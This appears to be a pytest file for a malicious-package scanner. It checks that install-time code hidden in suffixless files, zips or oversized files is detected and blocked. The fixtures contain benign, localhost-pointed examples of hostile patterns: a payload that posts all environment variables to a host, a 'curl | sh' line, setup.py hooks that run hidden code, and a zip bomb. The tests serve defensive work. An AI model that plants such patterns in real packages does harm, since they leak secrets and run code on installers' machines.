"""Tree files run as Python whatever their names say (guard.analysis.scan.scripts).

The samples ``script_*.sample`` hold the techniques; these tests hold what the
samples cannot say: how a word finds its file, and a file too large to read.
Every payload is benign by construction (127.0.0.1) and nothing is ever run.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from guard.analysis.scan import archive, scan_archive, scanner
from guard.analysis.scan.scripts import by_file_name, named_files, parses
from tests.analysis.test_scan import sdist

SETUP = (
    "import os, subprocess, sys\n"
    "from setuptools import setup\n"
    "here = os.path.dirname(os.path.abspath(__file__))\n"
    "subprocess.call([sys.executable, os.path.join(here, 'pkg', 'version')])\n"
    "setup(name='demo', version='1.0')\n"
)
PAYLOAD = "import os, requests\nrequests.post('http://127.0.0.1:9/', json=dict(os.environ))\n"


def _tar(tmp_path: Path, files: Mapping[str, str]) -> Path:
    return sdist(tmp_path, files, gzip=False)


def test_a_word_names_a_file_by_path_then_by_its_directory_then_by_its_name() -> None:
    by_rel = {
        "pkg/version": "demo-1.0/pkg/version",
        "pkg/run.py": "demo-1.0/pkg/run.py",
        "tools/job": "demo-1.0/tools/job",
        "a/data": "demo-1.0/a/data",
        "b/data": "demo-1.0/b/data",
        "c/data": "demo-1.0/c/data",
        "d/data": "demo-1.0/d/data",
    }
    names = by_file_name(by_rel)

    def found(words: list[str], importer: str = "setup.py") -> list[str]:
        return named_files(words, importer, by_rel, lambda: names)

    assert found(["./pkg/version"]) == ["demo-1.0/pkg/version"]
    assert found(["job"], "tools/build.py") == ["demo-1.0/tools/job"]
    # (a path built at run time leaves its last part: found by the file's name)
    assert found(["/home/u/src/pkg/version"]) == ["demo-1.0/pkg/version"]
    # (a bare name many files share reads at most three of them)
    assert found(["data"]) == ["demo-1.0/a/data", "demo-1.0/b/data", "demo-1.0/c/data"]
    # (``.py`` files are followed as modules, not here; a word naming nothing is nothing)
    assert found(["run.py", "missing", "r"]) == []


def test_only_what_parses_is_python() -> None:
    assert parses("__version__ = '1.0'\n")
    assert not parses("#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n")
    assert not parses("1.2.3\n")


def test_a_suffixless_file_setup_py_runs_is_read_and_blocks(tmp_path: Path) -> None:
    path = _tar(tmp_path, {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/version": PAYLOAD})
    result = scan_archive(path, path.name)
    assert result.level == "block"
    assert any("pkg/version:2" in k for f in result.findings for k, _ in f.evidence)


def test_the_same_file_not_run_stays_unread(tmp_path: Path) -> None:
    setup = "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    files = {"setup.py": setup, "pkg/__init__.py": "", "pkg/version": PAYLOAD}
    path = _tar(tmp_path, files)
    assert scan_archive(path, path.name).level == "clean"


def test_a_file_run_as_python_over_the_size_cap_blocks(tmp_path: Path) -> None:
    big = PAYLOAD + "#" + "x" * (21 * 1024 * 1024) + "\n"
    path = _tar(tmp_path, {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/version": big})
    result = scan_archive(path, path.name)
    assert result.level == "block"
    message = " ".join(f.message for f in result.findings)
    assert "pkg/version, which setup.py runs as Python, is over the size cap" in message


def test_files_run_as_python_past_the_archives_re_reads_block(tmp_path: Path) -> None:
    # (each helper names its own script: each would read the archive again)
    helper = "import subprocess, sys\nsubprocess.call([sys.executable, 'job{n}'])\n"
    files = {f"helper{n}.py": helper.format(n=n) for n in range(5)}
    files.update({f"job{n}": "x = 1\n" for n in range(5)})
    imports = "".join(f"import helper{n}\n" for n in range(5))
    files["setup.py"] = imports + "from setuptools import setup\nsetup(name='demo')\n"
    path = _tar(tmp_path, files)
    result = scan_archive(path, path.name)
    assert result.level == "block"
    message = " ".join(f.message for f in result.findings)
    assert "job3, which helper3.py runs as Python, was left unread" in message
    assert "job2, which" not in message


def _zip_of(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as inner:
        for name, text in files.items():
            inner.writestr(name, text)
    return buffer.getvalue()


def test_a_zip_the_install_imports_from_has_its_modules_read(tmp_path: Path) -> None:
    """setup.py's install command imports from a zip of the tree (zipimport, or a
    .zip on sys.path): the zip's modules are install-time code."""
    setup = (
        "import sys, zipimport\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Install(install):\n"
        "    def run(self):\n"
        "        zipimport.zipimporter('my.zip').load_module('my').go()\n"
        "        install.run(self)\n"
        "setup(name='demo', version='1.0', cmdclass={'install': Install})\n"
    )
    payload = {"my/__init__.py": PAYLOAD.replace("import os,", "import os, sys,")}
    files: dict[str, str | bytes] = {"setup.py": setup, "my.zip": _zip_of(payload)}
    result = scan_archive(sdist(tmp_path, files), "demo-1.0.tar.gz")
    assert result.level == "block"
    assert any(s.file == "my.zip/my/__init__.py" for s in result.signals)
    path_setup = "import sys\nsys.path.insert(0, 'vendor/tools.zip')\nimport tools\n"
    files = {"setup.py": path_setup, "vendor/tools.zip": _zip_of({"tools.py": PAYLOAD})}
    (tmp_path / "p").mkdir()
    result = scan_archive(sdist(tmp_path / "p", files), "demo-1.0.tar.gz")
    assert any(s.file == "vendor/tools.zip/tools.py" for s in result.signals)


def test_a_zip_bomb_the_install_imports_from_blocks(tmp_path: Path) -> None:
    bomb = _zip_of({"big.py": "#" * (30 * 1024 * 1024)})
    setup = "import zipimport\nzipimport.zipimporter('x.zip').load_module('big')\n"
    files: dict[str, str | bytes] = {"setup.py": setup, "x.zip": bomb}
    result = scan_archive(sdist(tmp_path, files), "demo-1.0.tar.gz")
    assert result.level == "block"
    assert "x.zip, a zip setup.py imports from, is unsafe" in " ".join(
        f.message for f in result.findings
    )


def test_an_archive_that_cannot_be_read_again_leaves_the_script_blocking(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Fault injection: the archive changed on disk after the first read (the
    second read fails): the file that install-time code runs is left unread, and
    the scan fails closed instead of crashing."""

    def broken(*_: object) -> object:
        raise archive.UnreadableArchive("truncated since the first read")

    monkeypatch.setattr(scanner, "read_again", broken)
    path = _tar(tmp_path, {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/version": PAYLOAD})
    result = scan_archive(path, path.name)
    assert result.level == "block"
    message = " ".join(f.message for f in result.findings)
    assert "pkg/version, which setup.py runs as Python, was left unread" in message
